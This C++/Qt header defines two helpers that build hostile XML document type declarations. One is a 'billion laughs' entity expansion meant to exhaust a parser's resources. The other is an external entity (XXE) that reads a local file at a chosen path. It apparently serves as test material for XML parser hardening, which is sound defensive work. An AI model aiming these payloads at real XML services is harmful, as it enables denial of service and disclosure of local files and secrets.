#pragma once

// Document type declarations that turn an XML reader against its machine,
// for a document whose root element is `root`.

#include <QByteArray>

// A billion laughs: &a9; stands for 10^9 "lol"s.
inline QByteArray entityBomb(const QByteArray& root)
{
    QByteArray entities = "<!ENTITY a0 \"lol\">";
    for (int level = 1; level < 10; ++level)
        entities += "<!ENTITY a" + QByteArray::number(level) + " \""
            + ("&a" + QByteArray::number(level - 1) + ';').repeated(10) + "\">";
    return "<!DOCTYPE " + root + " [" + entities + "]>";
}

// &x; stands for the local file at `path`.
inline QByteArray localEntity(const QByteArray& root, const QByteArray& path)
{
    return "<!DOCTYPE " + root + " [<!ENTITY x SYSTEM \"file://" + path + "\">]>";
}
